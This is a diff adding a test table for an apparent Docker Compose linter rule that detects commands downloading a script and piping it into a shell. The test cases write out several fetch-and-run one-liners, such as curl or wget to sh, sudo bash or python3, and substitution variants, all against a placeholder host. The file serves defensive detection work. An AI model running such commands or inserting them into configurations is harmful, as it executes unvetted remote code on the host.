@@ -1,0 +1,36 @@
+import { pipedDownload } from "../src/rules/piped-download.js";
+import { table } from "./table.js";
+
+const command = (text: string): string => `services:\n  web:\n    image: debian\n    command: ${text}\n`;
+const found = ["services.web.command"];
+
+table(pipedDownload, [
+  { case: "absent", compose: "services: {web: {image: nginx}}", finds: [] },
+  { case: "wrong type", compose: command("{a: b}"), finds: [] },
+  { case: "curl to sh", compose: command('sh -c "curl -fsSL https://x.example/i.sh | sh"'), finds: found },
+  {
+    case: "wget to sudo bash",
+    compose: command('bash -c "wget -qO- https://x.example/i | sudo -E bash -s --"'),
+    finds: found,
+  },
+  { case: "a list", compose: command('["sh", "-c", "curl -s https://x.example/i | bash"]'), finds: found },
+  {
+    case: "process substitution",
+    compose: command('["bash", "-c", "bash <(curl -s https://x.example/i)"]'),
+    finds: found,
+  },
+  {
+    case: "command substitution",
+    compose: command(`['sh', '-c', 'sh -c "$$(curl -s https://x.example/i)"']`),
+    finds: found,
+  },
+  { case: "to a language", compose: command('sh -c "curl -sSL https://x.example/i.py | python3 -"'), finds: found },
+  { case: "a filter", compose: command('sh -c "curl -s http://a | grep ok"'), finds: [] },
+  { case: "a formatter", compose: command('sh -c "curl -s http://a | python3 -m json.tool"'), finds: [] },
+  { case: "two commands", compose: command('sh -c "curl -s http://a; echo x | sh"'), finds: [] },
+  {
+    case: "entrypoint",
+    compose: "services: {web: {build: ., entrypoint: ['sh', '-c', 'wget -O- https://x.example | sh']}}",
+    finds: ["services.web.entrypoint"],
+  },
+]);
